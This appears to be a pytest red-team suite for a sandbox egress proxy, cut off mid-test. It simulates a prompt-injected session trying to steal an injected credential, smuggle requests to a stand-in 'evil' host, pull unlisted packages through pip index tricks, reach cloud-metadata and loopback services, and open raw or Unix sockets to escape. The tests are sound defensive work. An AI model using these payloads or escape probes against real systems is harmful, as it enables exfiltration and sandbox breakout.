"""Red team of the egress (docs/egress.md): a prompt-injected program in an `allowlisted` session of
the local stack, started as a user starts it (`sandboxctl local up` with test routes to a hostile
HTTPS API of this module), trying to get data out other than to an allowed host, to read the
tenant's credential the proxy adds, to use a stolen proxy credential, and to pass the byte cap.

Each attack runs from inside a real session through dispatch (its own proxy credential, its own
relay), unless it needs what no session has (a second source address, another tenant's
credential), in which case it talks to the proxy as such a client would. Every test records one
row of the report's "Red team" section; what got through is a finding there, with its class.
"""

from __future__ import annotations

import base64
import gzip
import json
import secrets
import threading
import time
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.egress import Tunnel, _read_head
from tests.support.hostile_upstream import ENCODED_MODES, decoded, websocket_frame
from tests.support.red_team import SESSION_RAW, RedStack, Turn, red_stack, reversed_b64, unreversed, wait_for

API = "api.partner.test"  # allowed, with the tenant's credential added by the proxy
OPEN = "open.partner.test"  # allowed, no credential
EVIL = "evil.partner.test"  # routed to the same server, never allowed
WILD = "x.wild.partner.test"  # allowed through the suffix rule *.wild.partner.test
IDN = "xn--bcher-kva.partner.test"  # an internationalized name, allowed as its ASCII form
MULTI = "ml.partner.test"  # allowed, its credential's secret holds a line break
NAMES = [API, OPEN, EVIL, WILD, IDN, MULTI]
SECRET_NAME = "crm-token"
PROXY_WAIT = 60  # a policy, cap or breaker change reaches the proxy within this


@pytest.fixture(scope="module")
def red(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RedStack]:
    with red_stack(tmp_path_factory.mktemp("red-egress"), names=NAMES) as stack:
        stack.secret = "tok-RED-" + secrets.token_hex(16)  # type: ignore[attr-defined]
        out = stack.ctl("secrets", "put", "--tenant", "acme", SECRET_NAME, stdin=stack.secret)  # type: ignore[attr-defined]
        assert out.returncode == 0, out.stderr
        # a secret written around sandboxctl (the console, another tool), its value two lines
        stack.multi = "tok-MULTI-" + secrets.token_hex(8)  # type: ignore[attr-defined]
        stack.proxy.put_secret("acme", "multi-line", stack.multi + "\r\nX-Injected: yes")  # type: ignore[attr-defined]
        out = stack.ctl(
            *("egress", "set", "--tenant", "acme", "--environment", "default-allowlist"),
            *("--allow", API, "--allow", OPEN, "--allow", "*.wild.partner.test", "--allow", IDN),
            *("--allow", MULTI),
            *("--credential", f"{API}=Authorization:Bearer {{secret:{SECRET_NAME}}}"),
            *("--credential", f"{MULTI}=X-Key:{{secret:multi-line}}"),
            *("--packages", "sandbox-hello"),
        )
        assert out.returncode == 0, out.stderr
        out = stack.ctl(
            *("egress", "set", "--tenant", "globex", "--environment", "default-allowlist", "--allow", OPEN),
            *("--packages", "sandbox-hello==1.0.0"),
        )
        assert out.returncode == 0, out.stderr
        yield stack


@pytest.fixture(scope="module")
def turn(red: RedStack) -> Iterator[Turn]:
    """acme's allowlisted turn, whose code is the attacker; its first call defines the raw helpers."""
    turn = red.turn("acme", "allowlisted")
    assert turn.begun["sandbox"]["status"] == "ready", turn.begun
    defined = turn.run(SESSION_RAW + "\nprint('ready')")
    assert defined.get("ok") is True, defined
    baseline = turn.run(f"print(status_of({_get('/echo?baseline', host=OPEN)}))")
    assert "200" in baseline["stdout"], baseline
    yield turn
    turn.end()


def _got(turn: Turn, expression: str) -> bytes:
    """What the session received, as the bytes `expression` evaluated to in it."""
    answer = turn.run(reversed_b64(expression))
    assert answer.get("ok") is True, answer
    return unreversed(answer["stdout"])


def _get(path: str, host: str = API, extra: str = "") -> str:
    request = f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n{extra}Connection: close\\r\\n\\r\\n"
    return f"tunnel({host!r}, b'{request}')"


def _body(answer: bytes) -> bytes:
    head, _, body = answer.partition(b"\r\n\r\n")
    if b"transfer-encoding: chunked" in head.lower():
        out, rest = b"", body
        while rest:
            size_line, _, rest = rest.partition(b"\r\n")
            size = int(size_line.split(b";")[0] or b"0", 16)
            if size == 0:
                break
            out, rest = out + rest[:size], rest[size + 2 :]
        body = out
    encoding = next(
        (
            line.split(b":", 1)[1].strip().lower()
            for line in head.split(b"\r\n")
            if line.lower().startswith(b"content-encoding")
        ),
        b"",
    )
    for coding in reversed([c.strip() for c in encoding.split(b",") if c.strip()]):  # applied last first
        if coding == b"gzip":
            body = gzip.decompress(body)
        elif coding == b"deflate":
            body = zlib.decompress(body)
    return body


# --- the credential, reflected by the allowed host --------------------------------------------------
QUOTED_BYTES = "medium: mitmproxy's 502 for an unreadable answer quoted the server's bytes, secret included"
QUOTED_MODES = ("bad-status-line", "bad-header-line", "bad-chunk-size", "garbage-then-close")
REFLECTIONS = {
    "body": "held",
    "location": "held",
    "cookie": "held",
    "early-hints": "low: the 103 was taken for the final answer (an HTTP/1 client got only the 103)",
    "chunked-split": "held",
    "gzip": "held",
    "deflate": "held",
    "gzip-twice": "held",
    "reason": "medium: the status line's reason phrase was not scrubbed",
    "hex-upper": "low: upper-case hex of the secret was not a scrubbed form",
    "b64-offset1": "low: base64 of the secret inside a larger base64 text was not a scrubbed form",
    "b64-offset2": "low: base64 of the secret inside a larger base64 text was not a scrubbed form",
    "utf16": "low: the secret in a UTF-16 body was not a scrubbed form",
    "bad-status-line": QUOTED_BYTES,
    "bad-header-line": QUOTED_BYTES,
    "bad-chunk-size": QUOTED_BYTES,
    "garbage-then-close": QUOTED_BYTES,
}


@pytest.mark.parametrize("mode", list(REFLECTIONS))
def test_red_reflected_credential_never_reaches_the_session(
    red: RedStack, turn: Turn, mode: str, record: Any
) -> None:
    secret: str = red.secret  # type: ignore[attr-defined]
    # Given the credential host reflecting the Authorization header the proxy added, as `mode`
    # When the session's code asks for it and decodes what it got the way the reflection encodes it
    got = _got(turn, _get(f"/reflect/{mode}", extra="Accept-Encoding: identity\\r\\n"))
    try:
        body = _body(got)
    except (ValueError, OSError, EOFError):  # a malformed answer relayed as it came
        body = b""
    recovered = got + body + (decoded(mode, body) if mode in ENCODED_MODES else b"")
    # Then the server did get the credential, and the session recovers nothing of it
    assert any(
        s.headers.get("authorization") == f"Bearer {secret}" for s in red.upstream.saw(f"/reflect/{mode}")
    )
    leaked = secret.encode() in recovered
    record(
        "red_team",
        attack=f"credential reflected by the allowed host: {mode}",
        surface="egress proxy",
        observed=got.split(b"\r\n", 1)[0].decode("latin-1")
        + ("; secret recovered" if leaked else "; none of it"),
        finding=REFLECTIONS[mode],
    )
    assert not leaked, got[:300]
    if mode == "early-hints":  # the informational answer is dropped, the final one follows
        assert got.startswith(b"HTTP/1.1 200 "), got[:300]


def test_red_the_proxys_log_never_holds_the_credential(red: RedStack, turn: Turn, record: Any) -> None:
    secret: str = red.secret  # type: ignore[attr-defined]
    # Given every reflection above has run (malformed answers among them, which the proxy logs)
    for mode in REFLECTIONS:
        _got(turn, _get(f"/reflect/{mode}"))
    # When the proxy's log is read / Then the secret is not in it, in any form the scrubber knows
    log = Path(red.state.data["processes"]["egress"]["log"]).read_bytes()
    leaked = secret.encode() in log
    record(
        "red_team",
        attack="the credential host's malformed answers, as the proxy logs them",
        surface="egress proxy (logs)",
        observed="secret in the proxy's log" if leaked else "not in the log",
        finding="medium: the proxy logged mitmproxy's error quoting the server's bytes, secret included",
    )
    assert not leaked


def test_red_credential_reassembled_from_byte_ranges_of_a_reflection(
    red: RedStack, turn: Turn, record: Any
) -> None:
    secret: str = red.secret  # type: ignore[attr-defined]
    # Given a credential host that honours Range on a reflection (static and caching servers do)
    # When the session asks for the reflection 8 bytes at a time, none holding the whole secret
    answer = turn.run(
        "parts = []\n"
        "for i in range(0, 96, 8):\n"
        f"    got = tunnel({API!r}, ('GET /reflect/range HTTP/1.1\\r\\nHost: {API}\\r\\n'\n"
        "                      f'Range: bytes={i}-{i + 7}\\r\\nConnection: close\\r\\n\\r\\n').encode())\n"
        "    parts.append(got.partition(b'\\r\\n\\r\\n')[2] if b' 206 ' in got[:20] else b'')\n"
        + reversed_b64("b''.join(parts)")
    )
    assert answer.get("ok") is True, answer
    parts = unreversed(answer["stdout"])
    # Then the pieces do not add up to the secret
    leaked = secret.encode() in parts
    record(
        "red_team",
        attack="credential reassembled from Range requests of a reflection",
        surface="egress proxy",
        observed="secret recovered" if leaked else "no piece of it",
        finding="medium: Range reached a credential host",
    )
    assert not leaked, parts[:200]


def test_red_upstream_trailers_are_answered_not_hung(red: RedStack, turn: Turn, record: Any) -> None:
    secret: str = red.secret  # type: ignore[attr-defined]
    # Given the credential host answering with HTTP/1.1 trailers (the secret in one)
    # When the session asks / Then it gets an answer (not a connection held until its timeout)
    got = _got(turn, _get("/reflect/trailer"))
    hung = b"<<TimeoutError>>" in got or not got.startswith(b"HTTP/1.1 ")
    record(
        "red_team",
        attack="upstream HTTP/1 trailers on a credential host",
        surface="egress proxy",
        observed="no answer, the connection held" if hung else got.split(b"\r\n", 1)[0].decode(),
        finding="low: mitmproxy's HTTP/1 reader raised on trailers and left the client unanswered",
    )
    assert not hung, got[:200]
    assert secret.encode() not in got


def test_red_unbounded_chunked_response_of_a_credential_host_is_cut_at_the_scrub_limit(
    red: RedStack, turn: Turn, record: Any
) -> None:
    # Given a credential host whose answer is chunked (no Content-Length) and larger than what the
    # proxy buffers to scrub (32 MiB)
    # When the session asks for it / Then the proxy refuses it rather than buffer it all
    out = turn.json(
        f"import json\ngot = {_get('/big?mib=40')}\n"
        "print(json.dumps({'status': status_of(got)[0], 'bytes': len(got)}))"
    )
    record(
        "red_team",
        attack="a 40 MiB chunked answer of a credential host (buffered to be scrubbed)",
        surface="egress proxy",
        observed=f"{out['status']}, {out['bytes']} bytes",
        finding="high: buffered without bound (one session can exhaust the shared proxy's memory)",
    )
    assert out["bytes"] < 33 * 1024 * 1024 and " 200 " not in out["status"], out


def test_red_a_secret_with_a_line_break_neither_splits_the_request_nor_leaks(
    red: RedStack, turn: Turn, record: Any
) -> None:
    multi: str = red.multi  # type: ignore[attr-defined]
    # Given a credential whose secret value holds a CR LF (written around sandboxctl)
    # When the session calls that host and reads what the server saw
    got = _got(turn, _get("/echo?multi", host=MULTI))
    seen = red.upstream.saw("/echo?multi")
    injected = any("x-injected" in s.headers for s in seen)
    leaked = multi.encode() in got
    record(
        "red_team",
        attack="a secret value with a line break, rendered into a header",
        surface="egress proxy",
        observed=("header injected upstream; " if injected else "")
        + ("first line of the secret echoed back" if leaked else "refused"),
        finding="medium: the rendered header split the request and its first line escaped scrubbing",
    )
    # Then nothing was injected into the upstream request, and nothing of the secret came back
    assert not injected and not leaked, (seen[-1:] if seen else None, got[:300])


# --- requests inside a tunnel ---------------------------------------------------------------------
H = OPEN
TUNNEL_CASES = {
    "pipelined second request to another host": (
        f"GET /echo?p1 HTTP/1.1\r\nHost: {H}\r\n\r\n"
        f"GET /echo?p2 HTTP/1.1\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n",
        "p2",
    ),
    "absolute-form to another host": (
        f"GET https://{EVIL}/echo?abs HTTP/1.1\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n",
        "abs",
    ),
    "absolute-form own host, Host another": (
        f"GET https://{H}/echo?abs2 HTTP/1.1\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n",
        "abs2",
    ),
    "CL.TE smuggling": (
        f"POST /echo?clte HTTP/1.1\r\nHost: {H}\r\nContent-Length: 70\r\nTransfer-Encoding: chunked\r\n\r\n"
        f"0\r\n\r\nGET /echo?smuggled HTTP/1.1\r\nHost: {EVIL}\r\nX: y\r\n\r\n",
        "smuggled",
    ),
    "TE.CL smuggling": (
        f"POST /echo?tecl HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n"
        f"5c\r\nGET /echo?smuggled2 HTTP/1.1\r\nHost: {EVIL}\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n",
        "smuggled2",
    ),
    "obfuscated Transfer-Encoding": (
        f"POST /echo?teob HTTP/1.1\r\nHost: {H}\r\nContent-Length: 4\r\nTransfer-Encoding : chunked\r\n\r\n"
        f"5c\r\nGET /echo?smuggled3 HTTP/1.1\r\nHost: {EVIL}\r\n\r\n0\r\n\r\n",
        "smuggled3",
    ),
    "Host with another port": (
        f"GET /echo?hp80 HTTP/1.1\r\nHost: {H}:80\r\nConnection: close\r\n\r\n",
        "hp80",
    ),
    "two Host headers": (
        f"GET /echo?twohosts HTTP/1.1\r\nHost: {H}\r\nHost: {EVIL}\r\nConnection: close\r\n\r\n",
        "twohosts",
    ),
    "Host with a space": (
        f"GET /echo?hostspace HTTP/1.1\r\nHost: {H} {EVIL}\r\nConnection: close\r\n\r\n",
        "hostspace",
    ),
    "CONNECT inside the tunnel": (
        f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n"
        f"GET /echo?nested HTTP/1.1\r\nHost: {EVIL}\r\n\r\n",
        "nested",
    ),
    "HTTP/0.9 request line": ("GET /echo?h09\r\n\r\n", "h09"),
    "the proxy's own name inside a tunnel": (
        "GET /bind HTTP/1.1\r\nHost: egress.sandbox.internal\r\nConnection: close\r\n\r\n",
        "bind",
    ),
}


@pytest.mark.parametrize("case", list(TUNNEL_CASES))
def test_red_request_tricks_inside_an_allowed_tunnel_reach_no_other_host(
    red: RedStack, turn: Turn, case: str, record: Any
) -> None:
    request, marker = TUNNEL_CASES[case]
    # When the session sends `request` inside its TLS tunnel to an allowed host
    got = _got(turn, f"tunnel({H!r}, {request.encode()!r})")
    # Then no request meant for another host, nor smuggled in a body, reached the server
    reached = [s for s in red.upstream.seen if f"?{marker}" in s.target]
    record(
        "red_team",
        attack=f"inside a tunnel: {case}",
        surface="egress proxy",
        observed=(got.split(b"\r\n", 1)[0].decode("latin-1") or "closed") + ("; REACHED" if reached else ""),
        finding="",
    )
    assert not reached, (reached, got[:300])


def test_red_names_in_connect_are_checked_as_the_policy_lists_them(
    red: RedStack, turn: Turn, record: Any
) -> None:
    targets = {
        "evilwild.partner.test:443": "403",  # the suffix rule is *.wild.partner.test, not *wild...
        "wild.partner.test:443": "403",  # a suffix rule allows subdomains, not the name itself
        f"{WILD}.evil.test:443": "403",
        f"{EVIL}:443": "403",
        f"{OPEN.upper()}:443": "200",
        f"{OPEN}.:443": "200",
        f"{OPEN}..:443": "400",
        "\u043epen.partner.test:443": "400",  # a Cyrillic o
        f"{OPEN}:+443": "400",
        f"{OPEN}:443/": "400",
        "a" * 300 + ".test:443": "400",
        "open%2epartner.test:443": "400",
        f"{OPEN}%00.evil.test:443": "400",
        f"{OPEN}:8443": "403",
        f"{OPEN}:80": "403",
        "packages.sandbox.internal:80": "403",
        f"{OPEN}@{EVIL}:443": "40",
        "169.254.169.254:443": "40",
        "[::ffff:127.0.0.1]:443": "40",
    }
    code = (
        f"import json\ntargets = {list(targets)!r}\n"
        "print(json.dumps({t: connect_head(t)[0].split(b'\\r\\n', 1)[0].decode('latin-1') for t in targets}))"
    )
    got = turn.json(code)
    wrong = {t: got[t] for t, want in targets.items() if f" {want}" not in got[t]}
    record(
        "red_team",
        attack=f"{len(targets)} spellings of a CONNECT target"
        " (suffix, case, dots, IDN, ports, userinfo, literals)",
        surface="egress proxy",
        observed="each answered as its name deserves" if not wrong else f"unexpected: {wrong}",
        finding="",
    )
    assert not wrong, wrong


def test_red_an_allowed_internationalized_name_is_reachable_by_its_ascii_form(
    red: RedStack, turn: Turn, record: Any
) -> None:
    # Given the policy lists an IDN host by its ASCII (punycode) form
    # When the session calls it
    got = _got(turn, _get("/echo?idn", host=IDN))
    status = got.split(b"\r\n", 1)[0].decode("latin-1")
    record(
        "red_team",
        attack="an allowed IDN host (xn--…) called",
        surface="egress proxy",
        observed=status,
        finding="low: mitmproxy decodes xn-- names to Unicode, which the name check refused (bad_host)",
    )
    # Then it is reached (the same name the operator allowed)
    assert " 200 " in status, got[:300]


def test_red_the_credential_goes_to_its_host_only_and_replaces_the_sessions_own(
    red: RedStack, turn: Turn, record: Any
) -> None:
    secret: str = red.secret  # type: ignore[attr-defined]
    # When the credential host redirects to another allowed host and urllib follows; and the
    # session sends the credential host an Authorization of its own, twice, in two spellings
    followed = turn.json(
        "import json, urllib.request\n"
        f"url = 'https://{API}/redirect?to=https://{OPEN}/echo%3Ffollowed-from-api'\n"
        "print(json.dumps({'status': urllib.request.urlopen(url, timeout=20).status}))\n"
    )
    own = "Authorization: Bearer chosen-by-the-session\\r\\nauthorization: Basic c2Vzc2lvbg==\\r\\n"
    _got(turn, _get("/echo?own-authorization", extra=own))
    at_open = red.upstream.saw("?followed-from-api")
    at_api = red.upstream.saw("?own-authorization")
    sent = [line for s in at_api for line in s.lines if line.lower().startswith("authorization:")]
    record(
        "red_team",
        attack="a redirect off the credential host, followed; the session's own Authorization to it",
        surface="egress proxy (credentials)",
        observed=f"followed {followed}; the other host saw authorization:"
        f" {any('authorization' in s.headers for s in at_open)}; the credential host saw {len(sent)}"
        " Authorization line(s)",
        finding="",
    )
    # Then the other host saw no credential, and the credential host exactly the tenant's, once
    assert followed["status"] == 200 and at_open, followed
    assert not any("authorization" in s.headers for s in at_open), at_open
    assert sent == [f"Authorization: Bearer {secret}"], sent


def test_red_redirect_from_an_allowed_host_to_a_denied_one_is_not_followed_out(
    red: RedStack, turn: Turn, record: Any
) -> None:
    # Given an allowed host redirecting to a host not allowed; When urllib follows it
    out = turn.json(
        "import json, urllib.request, urllib.error\n"
        "try:\n"
        f"    url = 'https://{OPEN}/redirect?to=https://{EVIL}/echo%3Fredirected'\n"
        "    r = urllib.request.urlopen(url, timeout=20)\n"
        "    out = {'status': r.status}\n"
        "except urllib.error.URLError as e:\n"
        "    out = {'error': str(e)[:200]}\n"
        "print(json.dumps(out))\n"
    )
    # Then the follow is refused at the proxy, and the denied host saw nothing
    reached = red.upstream.saw("?redirected")
    record(
        "red_team",
        attack="a redirect from an allowed host to a denied one, followed",
        surface="egress proxy",
        observed=out.get("error", out)[:80] if isinstance(out.get("error"), str) else str(out),
        finding="",
    )
    assert "status" not in out and not reached, (out, reached)


# --- packages ---------------------------------------------------------------------------------------
def test_red_pip_and_index_tricks_fetch_no_unlisted_package(red: RedStack, turn: Turn, record: Any) -> None:
    index = "https://packages.sandbox.internal/simple"
    wheel = "sandbox-unlisted/1.0.0/sandbox_unlisted-1.0.0-py3-none-any.whl"
    paths = [
        "/",
        "/sandbox-unlisted/",
        "/sandbox-hello/../sandbox-unlisted/",
        "/sandbox-hello/%2e%2e/sandbox-unlisted/",
        f"/sandbox-hello/1.0.0/../../{wheel}",
        "/sandbox-hello/1.0.0/sandbox_unlisted-1.0.0-py3-none-any.whl",
        "/sandbox-unlisted/1.0.0/sandbox_hello-1.0.0-py3-none-any.whl",
        "/Sandbox_Unlisted/",
    ]
    script = "\n".join(
        [
            f'pip install --no-cache-dir -q {index}/{wheel} >/dev/null 2>&1; echo "direct-url $?"',
            f"pip install --no-cache-dir -q --extra-index-url https://{EVIL}/simple/ sandbox-unlisted"
            ' >/dev/null 2>&1; echo "extra-index $?"',
            f'pip install --no-cache-dir -q "sandbox-hello @ {index}/{wheel}"'
            ' >/dev/null 2>&1; echo "pep508-url $?"',
            'pip download --no-cache-dir -q -d /tmp/dl sandbox-unlisted >/dev/null 2>&1; echo "download $?"',
            *(
                f"echo \"curl{p} $(curl -s --path-as-is -o /dev/null -w '%{{http_code}}' '{index}{p}')\""
                for p in paths
            ),
            f"echo \"post $(curl -s -o /dev/null -w '%{{http_code}}' -X POST {index}/sandbox-hello/)\"",
            "python -c 'import sandbox_unlisted' 2>/dev/null; echo \"imported $?\"",
        ]
    )
    answer = turn.run(script, language="bash")
    lines = dict(line.rsplit(" ", 1) for line in answer["stdout"].strip().splitlines())
    got_through = {k: v for k, v in lines.items() if v in ("0", "200")}
    record(
        "red_team",
        attack=f"pip with a direct URL, an extra index, a PEP 508 URL, download; {len(paths)} index paths",
        surface="egress proxy (packages)",
        observed="each refused" if not got_through else f"through: {got_through}",
        finding="",
    )
    assert not got_through, lines
    assert not any(s for s in red.upstream.seen if "/simple" in s.target)  # the denied host saw no pip


PINNED_PROBE = r"""
import io, json, subprocess, sys, zipfile
INDEX = "packages.sandbox.internal"
def fetch(path, accept=""):
    head = f"GET {path} HTTP/1.1\r\nHost: {INDEX}\r\n" + (f"Accept: {accept}\r\n" if accept else "")
    got = tunnel(INDEX, (head + "Connection: close\r\n\r\n").encode())
    body = got.partition(b"\r\n\r\n")[2]
    versions = []
    try:
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            text = b"".join(z.read(n) for n in z.namelist())
            versions = [v for v in ("1.0.0", "1.1.0") if f'VERSION = "{v}"'.encode() in text]
    except zipfile.BadZipFile:
        versions = [v for v in ("1.0.0", "1.1.0") if v.encode() in body]
    return {"status": status_of(got)[0], "versions": versions}
W = "sandbox_hello-{v}-py3-none-any.whl"
out = {name: fetch(path) for name, path in {
    "the pinned file": "/simple/sandbox-hello/1.0.0/" + W.format(v="1.0.0"),
    "another version": "/simple/sandbox-hello/1.1.0/" + W.format(v="1.1.0"),
    "the name spelled otherwise": "/simple/Sandbox_Hello/1.1.0/" + W.format(v="1.1.0"),
    "escaped traversal": "/simple/sandbox-hello/1.0.0/%2e%2e/1.1.0/" + W.format(v="1.1.0"),
    "double-escaped traversal": "/simple/sandbox-hello/1.0.0/%252e%252e/1.1.0/" + W.format(v="1.1.0"),
    "an escaped slash in the version": "/simple/sandbox-hello/1.0.0%2f..%2f1.1.0/" + W.format(v="1.1.0"),
    "the pinned directory, another file": "/simple/sandbox-hello/1.0.0/" + W.format(v="1.1.0"),
    "a double slash": "/simple/sandbox-hello//1.1.0/" + W.format(v="1.1.0"),
    "the project page": "/simple/sandbox-hello/",
}.items()}
out["the project page as JSON"] = fetch("/simple/sandbox-hello/", "application/vnd.pypi.simple.v1+json")
pip = [sys.executable, "-m", "pip", "install", "--no-cache-dir", "-q"]
for spec in ("sandbox-hello==1.1.0", "sandbox-hello"):
    out[f"pip install {spec}"] = subprocess.run(pip + [spec], capture_output=True).returncode
show = [sys.executable, "-c", "import sandbox_hello; print(sandbox_hello.VERSION)"]
out["installed"] = subprocess.run(show, capture_output=True, text=True).stdout.strip()
print(json.dumps(out))
"""


def test_red_a_pinned_package_yields_only_its_pinned_version(red: RedStack, record: Any) -> None:
    # Given globex's policy pins sandbox-hello to 1.0.0 (the index also has 1.1.0)
    turn = red.turn("globex", "allowlisted")
    try:
        # When its session asks the index for 1.1.0 by every path it can spell, and pip for it
        out = turn.json(SESSION_RAW + PINNED_PROBE)
    finally:
        turn.end()
    newer = {k: v for k, v in out.items() if isinstance(v, dict) and "1.1.0" in v["versions"]}
    record(
        "red_team",
        attack=f"a pinned package's other version: {len(out) - 3} index paths, pip with and without the pin",
        surface="egress proxy (packages)",
        observed="only the pinned version" if not newer and out["installed"] == "1.0.0" else f"{newer}",
        finding="",
    )
    # Then only the pinned file comes, pip gets nothing newer, and installs the pinned version
    assert not newer, newer
    assert " 200 " in out["the pinned file"]["status"] and out["the pinned file"]["versions"] == ["1.0.0"]
    assert out["pip install sandbox-hello==1.1.0"] != 0 and out["pip install sandbox-hello"] == 0, out
    assert out["installed"] == "1.0.0", out


# --- no other way out ----------------------------------------------------------------------------------
def test_red_no_way_out_but_the_relay(red: RedStack, turn: Turn, record: Any) -> None:
    proxy_port = int(red.state.data["egress"]["proxy"].rsplit(":", 1)[1])
    code = r"""
import json, os, socket, stat
out = {}
def attempt(name, fn):
    try:
        fn(); out[name] = "OPEN"
    except OSError as e:
        out[name] = type(e).__name__
def tcp(family, address):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    try: s.connect(address)
    finally: s.close()
def udp_dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
        s.sendto(query, ("8.8.8.8", 53))
        s.recvfrom(512)
    finally: s.close()
def raw_icmp():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.close()
def ping_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    try: s.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
    finally: s.close()
def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.close()
attempt("tcp 1.1.1.1:443", lambda: tcp(socket.AF_INET, ("1.1.1.1", 443)))
attempt("tcp [2606:4700::1111]:443", lambda: tcp(socket.AF_INET6, ("2606:4700::1111", 443)))
attempt("tcp [::1]:881", lambda: tcp(socket.AF_INET6, ("::1", 881)))
attempt("tcp proxy port directly", lambda: tcp(socket.AF_INET, ("127.0.0.1", PROXY_PORT)))
attempt("tcp 10.0.2.2 (slirp host)", lambda: tcp(socket.AF_INET, ("10.0.2.2", PROXY_PORT)))
attempt("udp dns 8.8.8.8", udp_dns)
attempt("raw icmp socket", raw_icmp)
attempt("icmp ping socket", ping_socket)
attempt("packet socket", packet)
attempt("bind the relay port", lambda: socket.socket().bind(("127.0.0.1", 881)))
try:
    socket.getaddrinfo("example.com", 443); out["dns lookup"] = "OPEN"
except OSError as e:
    out["dns lookup"] = type(e).__name__
sockets = []
for root in ("/run", "/var/run", "/tmp", "/dev", "/var/lib", "/opt", os.path.expanduser("~")):
    for folder, dirs, names in os.walk(root):
        for name in names:
            try:
                if stat.S_ISSOCK(os.lstat(os.path.join(folder, name)).st_mode):
                    sockets.append(os.path.join(folder, name))
            except OSError:
                pass
reachable = []
for path in sockets:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path); reachable.append(path)
    except OSError:
        pass
    finally:
        s.close()
names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
abstract = [name for name in names if name.startswith("@")]
out["unix sockets reachable"] = reachable
out["abstract unix sockets"] = abstract
print(json.dumps(out))
""".replace("PROXY_PORT", str(proxy_port))
    out = turn.json(code)
    opened = {k: v for k, v in out.items() if v == "OPEN" or (isinstance(v, list) and v)}
    record(
        "red_team",
        attack="TCP (IPv4, IPv6, the proxy's port), UDP DNS, raw/ICMP/packet sockets, Unix sockets,"
        " binding the relay port",
        surface="VPC session",
        observed="nothing but the relay" if not opened else f"open: {opened}",
        finding="",
    )
    assert not opened, out


LOOPBACK_PROBE = r"""
import json, socket
out = {}
def tcp(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect((host, port)); return "CONNECTED"
    except OSError as e:
        return type(e).__name__
    finally:
        s.close()
for service, port in SERVICES.items():
    for host in ("127.0.0.1", "10.0.2.2", "::1", "127.1.2.3"):
        out[f"tcp {host} {service}"] = tcp(host, port)
    if VIA_PROXY:
        for target in (f"127.0.0.1:{port}", f"localhost:{port}", f"localhost.:{port}", f"[::1]:{port}",
                       f"0:{port}", f"2130706433:{port}", f"packages.sandbox.internal:{port}"):
            out[f"CONNECT {target} {service}"] = connect_head(target)[0].split(b"\r\n", 1)[0].decode()
        # the proxy's own name takes a CONNECT on any port: what answers inside is the proxy itself
        pseudo = "egress.sandbox.internal"
        probe = f"GET /probe HTTP/1.1\r\nHost: {pseudo}\r\nConnection: close\r\n\r\n".encode()
        inside = tunnel(pseudo, probe, port)
        own = inside.startswith(b"HTTP/1.1 404") and b'"not found"' in inside
        out[f"inside {pseudo}:{port} {service}"] = "own 404" if own else inside[:60].decode("latin-1")
        for url in (f"http://127.0.0.1:{port}/", f"http://localhost:{port}/",
                    f"http://packages.sandbox.internal:{port}/", f"http://egress.sandbox.internal:{port}/"):
            head = f"GET {url} HTTP/1.1\r\nHost: {url.split('/')[2]}\r\n" + proxy_auth()
            head += "Connection: close\r\n\r\n"
            out[f"GET {url} {service}"] = status_of(plain(head.encode()))[0]
print(json.dumps(out))
"""


def _services(red: RedStack) -> dict[str, int]:
    """The local stack's own loopback services (moto, the interpreter, the Lambda emulator, the
    package index, the proxy): their ports."""
    processes = red.state.data["processes"]
    return {name: int(processes[name]["endpoint"].rsplit(":", 1)[1]) for name in processes}


def test_red_the_stacks_loopback_services_are_out_of_reach_of_a_session(
    red: RedStack, turn: Turn, record: Any
) -> None:
    services = _services(red)
    assert {"moto", "interpreter", "lambda", "egress"} <= set(services), services
    # When an allowlisted session tries moto, the interpreter's control API, the Lambda emulator,
    # the package index and the proxy by TCP on the host's loopback names, and through the proxy by
    # every spelling of a loopback target; and a public session tries them by TCP
    probe = LOOPBACK_PROBE.replace("SERVICES", repr(services))
    out = turn.json(probe.replace("VIA_PROXY", "True"))
    public = red.turn("acme", "analyst")
    try:
        out |= {f"public {k}": v for k, v in public.json(probe.replace("VIA_PROXY", "False")).items()}
    finally:
        public.end()
    reached = {k: v for k, v in out.items() if v == "CONNECTED" or " 200 " in v or " 101 " in v}
    record(
        "red_team",
        attack=f"the local stack's services ({', '.join(sorted(services))}) by TCP on loopback names"
        " and through the proxy as literals, loopback names and the proxy's own names",
        surface="VPC and public sessions, egress proxy",
        observed="none reached" if not reached else f"reached: {reached}",
        finding="",
    )
    # Then none is reached (inside a CONNECT to the proxy's own name only the proxy answers)
    assert not reached, reached
    assert all(v == "own 404" for k, v in out.items() if k.startswith("inside ")), out
    assert len(out) >= len(services) * 4


def test_red_the_proxys_own_name_answers_only_the_bind(red: RedStack, turn: Turn, record: Any) -> None:
    code = (
        "import json\n"
        "def via(url, host):\n"
        "    head = f'GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\n' + proxy_auth()\n"
        "    head += 'Connection: close\\r\\n\\r\\n'\n"
        "    return status_of(plain(head.encode()))[0]\n"
        "out = {}\n"
        "for path in ('/', '/bind/../admin', '/admin', '/counters', '/bind?session=other'):\n"
